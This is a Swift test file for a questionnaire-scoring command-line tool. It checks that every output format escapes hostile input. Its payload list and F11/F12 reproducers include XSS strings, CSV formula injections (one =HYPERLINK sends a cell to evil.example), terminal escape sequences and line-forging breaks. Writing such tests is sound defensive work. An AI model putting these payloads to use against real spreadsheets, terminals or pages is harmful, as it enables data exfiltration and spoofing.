import LAERTestSupport
import Testing

@testable import LAERCommandLine
@testable import LAERFormats
@testable import LAERValues

/// A corpus of hostile strings put into every text an answer file and a questionnaire carry, run
/// through every format of every command that shows them: nothing from input becomes a control
/// character, markup, a live link, a formula or a line of its own.
@Suite struct HostileStringTests {
    /// What a hostile respondent or questionnaire author writes.
    static let payloads: [String] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        "<b>bold</b> *em* _em_ ~~strike~~ `code` &lt;b&gt;",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+cmd",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=tab",
        "\r=cr",
        "esc\u{1B}]0;PWNED\u{7}\u{1B}[2J\u{1B}[31mred",
        "nul\u{0}bs\u{8}del\u{7F}",
        "c1\u{9B}31m\u{85}nel\u{80}",
        "rtl\u{202E}evil\u{2066}iso\u{2069}\u{200E}\u{61C}",
        "a\nFORGED line",
        "a\r\nFORGED line",
        "a\rFORGED line",
        "a\u{2028}FORGED\u{2029}FORGED",
        "a\u{85}FORGED",
        "a\u{B}FORGED\u{C}FORGED",
        String(repeating: "long ", count: 2_048),
    ]

    static func json(_ text: String) -> String { JSONWriter(pretty: false).string(from: .string(text)) }

    /// An answer file of the mini questionnaire with `payload` in every text: name, role,
    /// organization, period and a note (which gets a line of its own after it, as notes may).
    static func answers(_ payload: String, period: String? = nil, changed: Bool = false) throws -> String {
        try TestFiles.fixtureText(
            "answers-mini.json",
            replacing: [
                ("\"Zoë Müller\"", json(payload)), ("\"CRO\"", json(payload)), ("\"Acme, Inc.\"", json(payload)),
                ("\"2026-Q4\"", json(period ?? payload)),
                // A note keeps its own lines: its marker tells them from a forged line of another field.
                (#""Usage dashboard, \"weekly\".""#, json(payload.replacing("FORGED", with: "NOTELINE") + "\nNOTELINE")),
                (#""k3": {"rating": "largely"}"#, changed ? #""k3": {"rating": "not"}"# : #""k3": {"rating": "largely"}"#),
            ])
    }

    /// The keys of a questionnaire whose values are texts a person reads.
    static let textKeys: Set<String> = [
        "title", "name", "summary", "description", "profile", "statement", "help", "action", "researchArea", "note", "author",
    ]

    /// The mini questionnaire with a payload in each of its texts, in turn.
    static func hostileQuestionnaire() throws -> String {
        var counter = 0
        func walk(_ value: JSONValue, key: String?) -> JSONValue {
            switch value {
            case .string where key.map(textKeys.contains) ?? false:
                counter += 1
                return .string(payloads[counter % payloads.count])
            case .array(let elements):
                return .array(elements.map { walk($0, key: nil) })
            case .object(let object):
                return .object(
                    JSONObject(
                        object.members.map { JSONMember($0.key, walk($0.value, key: key == "profiles" ? "profile" : $0.key)) }))
            default:
                return value
            }
        }
        let document = try JSONParser.parse(try TestFiles.fixtureText("mini-questionnaire.json"))
        return JSONWriter(pretty: true, sortedKeys: false).string(from: walk(document, key: nil))
    }

    /// The files of every run: the questionnaires, and for each payload an answer file `a/N.json`
    /// and a later one `b/N.json` of the same organization.
    static func files() throws -> InMemoryFiles {
        var files: [String: [UInt8]] = [
            "q.json": Array(try TestFiles.fixtureText("mini-questionnaire.json").utf8),
            "hostile-q.json": Array(try hostileQuestionnaire().utf8),
        ]
        for (index, payload) in payloads.enumerated() {
            files["a/\(index).json"] = Array(try answers(payload).utf8)
            files["b/\(index).json"] = Array(try answers(payload, period: "2027-Q1", changed: true).utf8)
        }
        return InMemoryFiles(files)
    }

    static let formats = ["text", "markdown", "html", "json", "csv"]

    // MARK: What every output must be

    /// No control character but the line feed (and CR before LF, as CSV ends its rows).
    static func expectNoRawControl(_ text: String, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let scalars = Array(text.unicodeScalars)
        for (index, scalar) in scalars.enumerated() where SafeText.isControl(scalar) && scalar != "\n" {
            if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" { continue }
            Issue.record("\(what): raw U+\(String(scalar.value, radix: 16, uppercase: true))", sourceLocation: sourceLocation)
            return
        }
    }

    /// Whether `pattern` occurs without a backslash before it (Markdown's escape).
    static func containsUnescaped(_ text: String, _ pattern: String) -> Bool {
        var rest = text[...]
        while let range = rest.range(of: pattern) {
            if range.lowerBound == text.startIndex || text[text.index(before: range.lowerBound)] != "\\" { return true }
            rest = rest[range.upperBound...]
        }
        return false
    }

    static func expectSafe(_ output: String, format: String, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        expectNoRawControl(output, what, sourceLocation: sourceLocation)
        switch format {
        case "html":
            // Every tag is the report's: none is one from input, and none holds an attribute from it.
            for tag in output.split(separator: "<").dropFirst() {
                let inside = tag.prefix { $0 != ">" }
                let name = inside.prefix { $0 != " " && $0 != "/" }
                if ["img", "script", "b"].contains(name) {
                    Issue.record("\(what): an element from input: <\(inside)>", sourceLocation: sourceLocation)
                }
                for word in ["onerror", "javascript", "src="] where inside.contains(word) {
                    Issue.record("\(what): a tag holds \(word): <\(inside)>", sourceLocation: sourceLocation)
                }
            }
            for href in output.split(separator: "href=\"").dropFirst() where !href.hasPrefix("#") {
                Issue.record("\(what): a link to \(href.prefix(40))", sourceLocation: sourceLocation)
            }
        case "markdown":
            for pattern in ["](javascript", "<script", "<img", "<b>", "&lt;", "~~", "*em*", "_em_", "`code"]
            where containsUnescaped(output, pattern) {
                Issue.record("\(what): live Markdown \(pattern)", sourceLocation: sourceLocation)
            }
            expectNoForgedLine(output, what, notesToo: true, sourceLocation: sourceLocation)
        case "text":
            expectNoForgedLine(output, what, notesToo: false, sourceLocation: sourceLocation)
        case "csv", "wide-csv":
            do {
                for row in try CSVReader.parse(output, separator: .comma) {
                    for cell in row.fields {
                        guard let first = cell.utf8.first, "=+-@\t\r".utf8.contains(first) else { continue }
                        if first == UInt8(ascii: "-"), CSVWriter.isPlainNumber(cell.utf8.dropFirst()) { continue }
                        Issue.record(
                            "\(what): a formula cell \(cell.prefix(40).debugDescription)", sourceLocation: sourceLocation)
                    }
                }
            } catch {
                Issue.record("\(what): not CSV: \(error)", sourceLocation: sourceLocation)
            }
        default:
            break
        }
    }

    /// No line starts with what followed a line break in a single-line field, nor, where notes are
    /// folded too (Markdown) or `notesToo`, with a note's second line; a note's line in a text
    /// report is indented under it.
    static func expectNoForgedLine(
        _ output: String, _ what: String, notesToo: Bool, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        for line in output.split(separator: "\n") {
            let start = line.drop { $0 == " " }
            if start.hasPrefix("FORGED") || (notesToo ? start.hasPrefix("NOTELINE") : line.hasPrefix("NOTELINE")) {
                Issue.record("\(what): a forged line \(line.prefix(60).debugDescription)", sourceLocation: sourceLocation)
            }
        }
    }

    static func expectSafeMessages(_ errorOutput: String, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        expectNoRawControl(errorOutput, "\(what) (stderr)", sourceLocation: sourceLocation)
        for line in errorOutput.split(separator: "\n") where line.count > InputLimits.messageLength + 1 {
            Issue.record("\(what): a message line of \(line.count) characters", sourceLocation: sourceLocation)
        }
    }

    // MARK: The commands

    /// Every report format of `score` (of one side), `diff` and `trend` (of both).
    @Test(arguments: ["score", "diff", "trend"], formats)
    func reportsShowHostileAnswersSafely(command: String, format: String) throws {
        let files = try Self.files()
        for index in Self.payloads.indices {
            let inputs = command == "score" ? ["a/\(index).json"] : ["a/\(index).json", "b/\(index).json"]
            let run = CommandRun([command] + inputs + ["--questionnaire", "q.json", "--format", format], files: files)
            let what = "\(command) \(format) of payload \(index)"
            #expect(run.exitCode == .success, "\(what): \(run.errorOutput)")
            if command == "diff" { #expect(format == "csv" || run.output.contains("k3"), "\(what): the change shows") }
            Self.expectSafe(run.output, format: format, what)
            Self.expectSafeMessages(run.errorOutput, what)
        }
    }

    @Test(arguments: ["text", "markdown", "json"]) func aHostileQuestionnaireIsShownSafely(format: String) throws {
        let run = CommandRun(["questionnaire", "--questionnaire", "hostile-q.json", "--format", format], files: try Self.files())
        #expect(run.exitCode == .success, "\(run.errorOutput)")
        Self.expectSafe(run.output, format: format, "questionnaire \(format)")
        Self.expectSafeMessages(run.errorOutput, "questionnaire \(format)")
    }

    @Test(arguments: ["json", "csv", "wide-csv", "markdown"]) func aHostileQuestionnairesTemplateIsSafe(format: String) throws {
        let run = CommandRun(
            ["template", "--questionnaire", "hostile-q.json", "--format", format], files: try Self.files(), today: "2026-12-01")
        #expect(run.exitCode == .success, "\(run.errorOutput)")
        Self.expectSafe(run.output, format: format, "template \(format)")
    }

    /// Answers scored against the hostile questionnaire show its texts in every report.
    @Test(arguments: formats) func aHostileQuestionnairesTextsAreSafeInReports(format: String) throws {
        let files = try Self.files()
        let run = CommandRun(["score", "a/0.json", "--questionnaire", "hostile-q.json", "--format", format], files: files)
        #expect(run.exitCode == .success, "\(run.errorOutput)")
        Self.expectSafe(run.output, format: format, "score \(format) with the hostile questionnaire")
    }

    /// The values a message quotes: a bad date, rating, phase, member and questionnaire id.
    @Test func messagesShowHostileValuesEscapedAndShort() throws {
        let files = try Self.files()
        for (index, payload) in Self.payloads.enumerated() {
            let bad = try Self.answers("x")
                .replacing("\"2026-11-25\"", with: Self.json(payload))
                .replacing(#""k4": {"rating": "not"}"#, with: #""k4": {"rating": \#(Self.json(payload))}"#)
                .replacing(#""kpis": "laer-efficient""#, with: #""kpis": \#(Self.json(payload))"#)
                // A member name longer than InputLimits.keyBytes is a syntax error of its own; keep the key short.
                .replacing(#""roadSigns": {"#, with: #""roadSigns": {\#(Self.json(String(payload.prefix(200)))): true, "#)
                .replacing(#""id": "mini""#, with: #""id": \#(Self.json(payload))"#)
            try files.write(bad, to: "bad/\(index).json")
            let run = CommandRun(["validate", "bad/\(index).json", "--questionnaire", "q.json"], files: files)
            #expect(run.exitCode == .dataError, "\(index)")
            #expect(run.errorOutput.split(separator: "\n").count >= 2, "\(index): \(run.errorOutput)")
            Self.expectSafeMessages(run.errorOutput, "validate of payload \(index)")
        }
        let long = CommandRun(["validate", "bad/\(Self.payloads.count - 1).json", "--questionnaire", "q.json"], files: files)
        #expect(long.errorOutput.contains("…\" (10,240 bytes) is not a date"), "\(long.errorOutput)")
    }

    /// JSON that is not UTF-8 is refused with its place, never shown: the bytes are not echoed.
    @Test func invalidUTF8IsRejectedWithAClearMessage() throws {
        var bytes = Array(try Self.answers("Zoë").utf8)
        let name = try #require(bytes.firstRange(of: Array("Zo".utf8)))
        bytes.replaceSubrange(name, with: [0xFF, 0xC0, 0x9B])
        let memory = InMemoryFiles([
            "bad.json": bytes, "q.json": Array(try TestFiles.fixtureText("mini-questionnaire.json").utf8),
        ])
        let run = CommandRun(["score", "bad.json", "--questionnaire", "q.json"], files: memory)
        #expect(run.exitCode == .dataError)
        #expect(run.errorOutput.contains("not valid UTF-8"), "\(run.errorOutput)")
        Self.expectSafeMessages(run.errorOutput, "invalid UTF-8")
    }

    // MARK: The reproducers

    /// F11: a name of escape sequences and line breaks reached the terminal raw and forged a report line.
    @Test(arguments: formats) func f11ControlCharactersInANameReachNoReport(format: String) throws {
        let name = "Dana\u{1B}]0;PWNED\u{7}\u{1B}[2J\u{1B}[31m RED \u{1B}[0m\u{202E}evil\n\nFORGED at LAER Efficient"
        let files = InMemoryFiles([
            "q.json": Array(try TestFiles.fixtureText("mini-questionnaire.json").utf8),
            "n.json": Array(
                try TestFiles.fixtureText("answers-mini.json", replacing: [("\"Zoë Müller\"", Self.json(name))]).utf8),
        ])
        let run = CommandRun(["score", "n.json", "--questionnaire", "q.json", "--format", format], files: files)
        #expect(run.exitCode == .success)
        #expect(!run.output.contains("\u{1B}") && !run.output.contains("\u{202E}") && !run.output.contains("\u{7}"))
        Self.expectSafe(run.output, format: format, "F11 \(format)")
    }

    /// F11: values quoted in a message (here the questionnaire id) reached standard error raw.
    @Test func f11ControlCharactersInAnErrorReachNoMessage() throws {
        let answers = try TestFiles.fixtureText(
            "answers-mini.json", replacing: [(#""id": "mini""#, #""id": "\u001b]0;PWNED\u0007\u001b[2J""#)])
        let files = InMemoryFiles([
            "q.json": Array(try TestFiles.fixtureText("mini-questionnaire.json").utf8), "e.json": Array(answers.utf8),
        ])
        let run = CommandRun(["validate", "e.json", "--questionnaire", "q.json"], files: files)
        #expect(run.exitCode == .dataError)
        #expect(
            run.errorOutput.contains(#"these answers are for questionnaire "\u{1B}]0;PWNED\u{7}\u{1B}[2J""#), "\(run.errorOutput)"
        )
        Self.expectSafeMessages(run.errorOutput, "F11 error")
    }

    /// F12: a questionnaire id that is a formula validated, and the answer sheet carried it as a live formula.
    @Test func f12AFormulaQuestionnaireIDIsRefused() throws {
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#
        let questionnaire = try TestFiles.fixtureText(
            "mini-questionnaire.json", replacing: [(#""id": "mini""#, #""id": \#(Self.json(formula))"#)])
        let files = InMemoryFiles(["f.json": Array(questionnaire.utf8)])
        let validate = CommandRun(["validate", "f.json"], files: files)
        #expect(validate.exitCode == .dataError)
        #expect(validate.errorOutput.contains(#"f.json: id: "=HYPERLINK("#), "\(validate.errorOutput)")
        #expect(validate.errorOutput.contains("is not a usable id"))
        let template = CommandRun(["template", "--format", "csv", "--questionnaire", "f.json"], files: files)
        #expect(template.exitCode == .dataError)
        #expect(!template.output.contains("=HYPERLINK"))
    }
}
